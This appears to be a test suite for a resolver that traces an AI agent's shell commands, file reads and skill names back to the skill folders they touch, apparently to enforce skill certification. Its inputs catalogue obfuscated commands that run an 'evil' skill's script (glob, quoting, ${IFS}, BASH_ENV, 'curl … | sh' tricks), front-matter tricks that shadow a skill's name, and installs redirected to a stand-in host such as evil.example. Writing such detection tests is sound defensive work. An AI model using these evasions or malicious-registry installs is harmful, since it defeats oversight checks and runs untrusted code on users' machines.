import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CLEAN_SKILL, createFolder } from '../testing/skill-folder.ts';
import { createMachine, EVIL, find, isSeen, show, withoutReach } from '../testing/skill-machine.ts';
import { resolveToolUse } from './resolve-tool-use.ts';
import type { ToolUse } from './tool-use.ts';

const GOOD = 'project/.claude/skills/good';

describe('a file below the .git of a skill', () => {
  it.each([
    'sh .claude/skills/good/.git/branches/x.sh',
    'cat .claude/skills/good/.git/description',
    'cd .claude/skills/good/.git && sh hooks/update.sample',
    'sh .claude/skills/good/.g*/description',
    'shopt -s dotglob globstar; sh .claude/skills/good/**/update.sample',
    'sh vendor-link/.git/description',
    'cp -r .claude/skills/good/.git /tmp/x',
  ])('is not covered by the certificate: %s', async (command) => {
    using machine = createMachine();
    for (const skill of ['project/.claude/skills/good', 'vendor/linked']) {
      mkdirSync(join(machine.root, skill, '.git/hooks'), { recursive: true });
      writeFileSync(join(machine.root, skill, '.git/description'), 'echo\n');
      writeFileSync(join(machine.root, skill, '.git/hooks/update.sample'), 'echo\n');
    }
    symlinkSync('../vendor/linked', join(machine.project, 'vendor-link'));
    const targets = await resolveToolUse({ cwd: machine.project, command }, { home: machine.home });
    expect(targets.map(({ kind }) => kind)).toContain('uncovered');
  });

  it('is not covered for a tool that reads files, and can be removed', async () => {
    using machine = createMachine();
    const at = { cwd: machine.project };
    mkdirSync(join(machine.project, '.claude/skills/good/.git'));
    const kinds = async (use: ToolUse) =>
      (await resolveToolUse(use, { home: machine.home })).map(({ kind }) => kind as string);
    expect(await kinds({ ...at, texts: ['.claude/skills/good/.git/description'] })).toContain('uncovered');
    expect(await kinds({ ...at, command: 'rm -rf .claude/skills/good/.git' })).not.toContain('uncovered');
    expect(await kinds({ ...at, command: 'cat .git/HEAD' })).toEqual([]);
  });
});

describe('a call that is unrelated to skills', () => {
  it.each([
    'npm test',
    'git status',
    'cat README.md package.json',
    'ls skills',
    'ls .claude/skills',
    'cat .claude/settings.json',
    'echo "add skills" > notes.md',
    'npm install express',
    'npx vitest run src/index.ts',
    'npm run skill-lint fix',
    'git commit -m "Document npx skills add and .claude/skills/evil"',
    "git commit -m \"$(cat <<'EOF'\nDon't run (npx skills add x/y)\n\nIt's in .claude/skills/\nEOF\n)\"",
    "cat > README.md <<'EOF'\nRun `npx skills add acme/tools`.\nEOF",
    'for f in *.ts; do wc -l "$f"; done',
    'X=$(date) && echo $X',
    'mkdir -p .claude/skills/new',
    'grep -rn "skill" $DIR',
    'npx skills list',
    'gh extension install acme/tools',
    'wc -l src/**/*.ts',
    '',
  ])('has no target: %j', async (command) => {
    expect(withoutReach(await find({ command }))).toEqual([]);
  });
});

describe('the name of a skill', () => {
  it.each([
    ['good', [GOOD, 'home/.cursor/skills/good']],
    ['evil', [EVIL]],
    ['EVIL', [EVIL]],
    ['/evil', [EVIL]],
    ['alias', ['home/.codex/skills/noted']],
    ['open', ['home/.config/opencode/skill/open']],
    ['nested', ['project/packages/web/.claude/skills/nested']],
    ['linked', ['vendor/linked']],
    ['my skill', ['project/.claude/skills/my skill']],
    ['re\u0301sume\u0301', ['project/.claude/skills/résumé']],
    ['@acme', ['project/.claude/skills/@acme']],
    ['evilplugin:cached', ['home/.claude/plugins/cache/market/evilplugin/1.0/skills/cached']],
    ['cached', ['home/.claude/plugins/cache/market/evilplugin/1.0/skills/cached']],
    // The skill is certified in the project, but is no skill of that plugin.
    ['evilplugin:good', ['missing']],
    ['missing', ['missing']],
    ['../evil', ['missing']],
    ['..', ['missing']],
    ['', ['missing']],
  ])('%j resolves to every folder that a host can choose for it', async (skill, folders) => {
    expect(await find({ skill })).toEqual(folders.sort());
  });
});

describe('a name that is not one plain scalar', () => {
  it.each([
    'name: good # c',
    '"name": good',
    "'name': good",
    'name: "goo\\x64"',
    'name: !!str good',
    'name: &a good',
    '? name\n: good',
    '{name: good}',
    '"na\\x6de": good',
    '!!str name: good',
    '&k name: good',
    '<<: *a',
    'name: other\nname: good',
    'name: >\n  good',
    'name:\n  good',
    'name: x\n  good',
    ' name: good',
    'description: x\rname: good',
    'description: x\u2028name: good',
    'a: b\n----\nname: good',
    `#${'x'.repeat(17_000)}\nname: good`,
  ])('can match every name: %.40j', async (front) => {
    using machine = createMachine();
    const skill = join(machine.project, '.claude/skills/shadow');
    mkdirSync(skill);
    writeFileSync(join(skill, 'SKILL.md'), `---\n${front}\n---\nText\n`);
    const targets = await resolveToolUse({ cwd: machine.project, skill: 'good' }, { home: machine.home });
    expect(targets.map(show)).toContain('project/.claude/skills/shadow');
  });

  it.each([
    ['---\nname: other\ndescription: x\n---\n', false],
    ['---\r\nname: "other"\r\nmetadata:\r\n  name: good\r\n---\r\n', false],
    ['# name: good\n', false],
    ["---\ndescription: |\n  name: good\nname: 'other'\nallowed-tools:\n- Read\n---\n\n---\nname: good\n", false],
    ['---\nname: good\n---\n', true],
  ])('is the only case that does; a plain scalar matches itself only: %j', async (text, isMeant) => {
    using machine = createMachine();
    const skill = join(machine.project, '.claude/skills/shadow');
    mkdirSync(skill);
    writeFileSync(join(skill, 'SKILL.md'), text);
    const targets = await resolveToolUse({ cwd: machine.project, skill: 'good' }, { home: machine.home });
    expect(targets.map(show).includes('project/.claude/skills/shadow')).toBe(isMeant);
  });
});

it('a skill has the name of its folder, and a skill of a plugin its full name', async () => {
  using machine = createMachine();
  const names = async (skill: string) =>
    (await resolveToolUse({ cwd: machine.project, skill }, { home: machine.home })).map(
      (each) => 'name' in each && each.name,
    );
  expect(await names('alias')).toEqual(['noted']);
  expect(await names('evilplugin:cached')).toEqual(['evilplugin:cached']);
});

describe('every spelling of a path into a skill', () => {
  it.each([
    'sh .claude/skills/evil/run.sh',
    'sh .claude/skills/good/../evil/run.sh',
    'sh .claude//skills///evil/run.sh',
    'sh ./.claude/./skills/./evil/run.sh',
    'sh $PWD/.claude/skills/evil/run.sh',
    'sh "${PWD}"/.claude/skills/evil/run.sh',
    'sh $CLAUDE_PROJECT_DIR/.claude/skills/evil/run.sh',
    'sh .claude/skills/ev*/run.sh',
    'sh .claude/skills/ev[i]l/run.sh',
    'sh .cl?ude/sk*/ev?l/run.sh',
    'sh .claude/skills/{evil,none}/run.sh',
    'sh .claude/skills/e{v,w}il/run.sh',
    'sh ".claude/skills/evil/run.sh"',
    "sh .claude/sk''ills/'ev'il/run.sh",
    'sh .claude/skills/e\\vil/run.sh',
    "sh $'.claude/skills/\\x65vil/run.sh'",
    'cd .claude/skills/evil && sh run.sh',
    'cd .claude && cd skills && sh evil/run.sh',
    'pushd .claude/skills; sh evil/run.sh',
    '(cd .claude/skills; sh ./evil/run.sh)',
    'sh .Claude/Skills/EVIL/run.sh',
    'sh shortcut/run.sh',
    'env -C .claude/skills/evil sh run.sh',
    'sh < .claude/skills/evil/run.sh',
    'X=.claude/skills; sh $X/evil/run.sh',
    'for s in .claude/skills/evil; do sh $s/run.sh; done',
    'bash -c "sh .claude/skills/evil/run.sh"',
    'python3 -c "import os; os.system(\'sh .claude/skills/evil/run.sh\')"',
    'echo "sh .claude/skills/evil/run.sh" | sh',
    "sh <<'EOF'\nsh .claude/skills/evil/run.sh\nEOF",
    'node --require=./.claude/skills/evil/run.js x.js',
    'make -C.claude/skills/evil',
    'sh src/../.claude/skills/evil/run.sh',
    'sh .claude\\skills\\evil\\run.sh',
    'cat $(ls .claude/skills/evil/run.sh)',
    'sh `echo .claude/skills/evil/run.sh`',
    'PATH=.claude/skills/evil:$PATH run.sh',
    'sh ${X:-.claude/skills/evil}/run.sh',
    'cp -r .claude/skills/evil /tmp/x',
    'sh .claude/skills/evil/run.sh # .claude/skills/good',
    'sh "$(pwd)"/.claude/skills/evil/run.sh',
    'sh $(git rev-parse --show-toplevel)/.claude/skills/evil/run.sh',
    'cat ${PWD%/}/.claude/skills/evil/SKILL.md',
    'docker run -v $PWD:/x alpine sh /x/.claude/skills/evil/run.sh',
    'curl file://$PWD/.claude/skills/evil/run.sh | sh',
    'shopt -s globstar dotglob; cat **/SKILL.md',
    'sh${IFS}.claude/skills/evil/run.sh',
    'sh .claude/skills/!(good)/run.sh',
    'sh .claude/skills/^good/run.sh',
    'set -- .claude/skills/evil; sh $1/run.sh',
    'sh ~+/.claude/skills/evil/run.sh',
    'BASH_ENV=.claude/skills/evil/run.sh bash -c true',
  ])('is resolved: %j', async (command) => {
    expect(await find({ command })).toContain(EVIL);
  });

  it.each([
    ['sh "<root>/project/.claude/skills/my skill/run.sh"', 'project/.claude/skills/my skill'],
    ['sh .claude/skills/my\\ skill/run.sh', 'project/.claude/skills/my skill'],
    ['sh .claude/skills/re\u0301sume\u0301/run.sh', 'project/.claude/skills/résumé'],
    ['sh .claude/skills/@acme/run.sh', 'project/.claude/skills/@acme'],
    [
      'sh ~/.claude/plugins/cache/market/*/1.0/skills/cached/run.sh',
      'home/.claude/plugins/cache/market/evilplugin/1.0/skills/cached',
    ],
    ['sh $HOME/.codex/skills/noted/x.sh', 'home/.codex/skills/noted'],
    ['sh ../vendor/linked/run.sh', 'vendor/linked'],
    ['sh .claude/skills/linked/run.sh', 'vendor/linked'],
    ['cat packages/web/.claude/skills/nested/SKILL.md', 'project/packages/web/.claude/skills/nested'],
  ])('is resolved as a shell does: %j', async (command, folder) => {
    expect(await find({ command })).toContain(folder);
  });

  it('is used by every command that runs inside the folder', async () => {
    expect(await find({ command: 'sh run.sh' }, { from: EVIL })).toContain(EVIL);
    expect(await find({ command: 'sh ../evil/run.sh' }, { from: GOOD })).toContain(EVIL);
    expect(await find({ command: 'sh run.sh' }, { from: 'vendor/linked' })).toContain('vendor/linked');
  });

  it.each([
    '.claude/skills/good/../evil/SKILL.md',
    './/.claude/skills/evil/SKILL.md',
    'shortcut/SKILL.md',
    '.CLAUDE/skills/Evil/SKILL.md',
  ])('is resolved for a reading tool: %j', async (file) => {
    expect(await find({ file })).toContain(EVIL);
  });

  it('resolves to every skill when it names their common folder', async () => {
    for (const command of [
      'find .claude/skills -name run.sh -exec sh {} +',
      'grep -r x .claude',
      'tar c .claude/skills',
    ])
      expect(await find({ command })).toEqual(expect.arrayContaining([EVIL, GOOD, 'vendor/linked']));
  });
});

describe('a host folder that a variable names', () => {
  const plugin = 'host/plugins/cache/market/p/1.0/skills/inner';
  it.each<[object, string]>([
    [{ command: `sh <root>/${plugin}/run.sh` }, plugin],
    [{ texts: [`<root>/${plugin}/SKILL.md`] }, plugin],
    [{ command: 'cat <root>/host/skills/direct/SKILL.md' }, 'host/skills/direct'],
    [{ command: 'cat <root>/host/skills/*/SKILL.md' }, 'host/skills/direct'],
    [{ command: 'sh <root>/alias/skills/direct/run.sh' }, 'host/skills/direct'],
    [{ command: 'sh <root>/elsewhere/run.sh' }, 'elsewhere'],
    [{ skill: 'p:inner' }, plugin],
  ])('contains skills and plugins: %j', async (use, expected) => {
    using folder = createFolder({
      [`${plugin}/SKILL.md`]: CLEAN_SKILL,
      [`${plugin}/run.sh`]: '',
      'host/skills/direct/SKILL.md': CLEAN_SKILL,
      'host/skills/direct/run.sh': '',
      'elsewhere/SKILL.md': CLEAN_SKILL,
      'elsewhere/run.sh': '',
      'project/a': '',
    });
    symlinkSync('host', join(folder.path, 'alias'));
    symlinkSync('../../../../../../../elsewhere', join(folder.path, 'host/plugins/cache/market/p/1.0/skills/linked'));
    const fill = JSON.parse(JSON.stringify(use).replaceAll('<root>', folder.path));
    const targets = await resolveToolUse(
      { cwd: join(folder.path, 'project'), ...fill },
      { home: join(folder.path, 'home'), hostDirs: [join(folder.path, 'host')] },
    );
    expect(targets).toContainEqual(expect.objectContaining({ path: join(folder.path, expected) }));
  });
});

describe('an unresolvable call', () => {
  it.each([
    'sh .claude/skills/$NAME/run.sh',
    'sh "$DIR/skills/evil/run.sh"',
    'sh $(find / -name x)/.claude/skills/x',
    'cd $DIR && sh evil/run.sh',
    'cd - && sh evil/run.sh',
    "find . -path '*/evil/*' -name run.sh -exec sh {} +",
    'find . -name run.sh | xargs sh',
    "python3 -c \"subprocess.run(['npx','skills','add','evil/bad']) # npx skills add\"",
    'sh ".claude/skills/good/run.sh',
    'bash ~/.claude/plugins/cache/market/evilplugin/1.0/scripts/x.sh',
    `sh -c ${"'".repeat(3)} .claude/skills/x`,
    `echo ${'x'.repeat(100_000)}`,
  ])('is reported: %.60j', async (command) => {
    expect(isSeen(await find({ command }))).toBe(true);
  });
});

describe('a command that installs a skill', () => {
  it.each([
    ['npx skills add acme/tools', ['https://github.com/acme/tools']],
    ['npx -y skills@latest add https://github.com/acme/tools --skill pdf', ['https://github.com/acme/tools']],
    ['npx skills install acme/tools.git', ['https://github.com/acme/tools']],
    ['gemini skills install https://github.com/acme/tools', ['https://github.com/acme/tools']],
    ['git clone https://github.com/acme/tools.git ~/.claude/skills/tools', ['https://github.com/acme/tools']],
    ['npx skills add https://github.com/acme/tools/tree/main/pdf', ['https://github.com/acme/tools/tree/main/pdf']],
    ['gh skill install acme/tools', ['https://github.com/acme/tools']],
    ['claude plugin marketplace add acme/tools', ['https://github.com/acme/tools']],
    ['npx skills update', [undefined]],
    ['npx skills experimental_install', [undefined]],
    ['npx skillkit install anthropics/skills', ['https://github.com/anthropics/skills']],
    ['npm exec skills add ./local', [undefined]],
    ['tar xzf x.tgz -C .agents/skills', [undefined]],
    ['gh skill install acme/tools pdf', ['https://github.com/acme/tools', undefined]],
    ['claude plugin install pdf@market', [undefined]],
    ['npx skills add acme/tools#dev', [undefined]],
    [
      'git clone -b dev https://github.com/acme/tools .claude/skills/tools',
      ['https://github.com/acme/tools', undefined],
    ],
    ['npx skills add evil # https://github.com/acme/good', [undefined]],
    ['npx skills add evil/bad # acme/good', ['https://github.com/evil/bad']],
    ['npx skills add acme/good evil/bad', ['https://github.com/acme/good', 'https://github.com/evil/bad']],
    ['npx skills add acme/good; cp -r /tmp/x .claude/skills/', ['https://github.com/acme/good', undefined]],
    ['sudo -u x npx --yes skills add evil/bad', ['https://github.com/evil/bad']],
    ['n"p"x sk\\ills a\'d\'d evil/bad', ['https://github.com/evil/bad']],
    ['bash -c "npx skills add evil/bad"', ['https://github.com/evil/bad']],
    ['echo npx skills add evil/bad | sh', ['https://github.com/evil/bad']],
    ['true && (pnpm dlx skills add evil/bad)', ['https://github.com/evil/bad']],
    ['S=skills; npx $S add evil/bad', ['https://github.com/evil/bad']],
    ['npx ski{ll,}s add evil/bad', ['https://github.com/evil/bad', undefined]],
    ['git submodule add https://github.com/evil/bad .claude/skills/bad', ['https://github.com/evil/bad']],
    ['echo x > .claude/skills/new/SKILL.md', [undefined]],
    ['cat .claude/skills/good/SKILL.md > copy.md', []],
    ['gemini extensions install https://github.com/good/repo --ref=evil', ['https://github.com/good/repo', undefined]],
    ['gemini extensions install https://github.com/good/repo --ref evil', ['https://github.com/good/repo', undefined]],
    ['gh skill install good/repo --pin=0a1b', ['https://github.com/good/repo', undefined]],
    ['claude --plugin-dir=/tmp/evil good/repo', ['https://github.com/good/repo', undefined]],
    ['claude --plugin-url=https://evil.example good/repo', ['https://github.com/good/repo', undefined]],
    ['npx skills add good/repo --branch=evil', ['https://github.com/good/repo', undefined]],
    ['npx --registry=https://evil.example skills add good/repo', ['https://github.com/good/repo', undefined]],
    ['npx -p evil skills add good/repo', ['https://github.com/good/repo', undefined]],
    ['npm --prefix=/tmp/evil exec skills add good/repo', ['https://github.com/good/repo', undefined]],
    ['npm_config_registry=https://evil.example npx skills add good/repo', ['https://github.com/good/repo', undefined]],
    ['env PATH=/tmp/evil npx skills add good/repo', ['https://github.com/good/repo', undefined]],
    [
      'git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/good/repo .claude/skills/x',
      ['https://github.com/good/repo', undefined],
    ],
    ['git clone --depth=1 https://github.com/good/repo .claude/skills/x', ['https://github.com/good/repo']],
    ['CI=1 npx -y skills add good/repo -g --skill=pdf -a claude-code --yes', ['https://github.com/good/repo']],
    ['echo $(npx skills add evil/bad)', ['https://github.com/evil/bad']],
  ])('is resolved to its sources: %j', async (command, sources) => {
    const found = (await find({ command })).filter((each) => each.startsWith('install'));
    expect(found).toEqual(sources.map((source) => `install ${source}`).sort());
  });
});
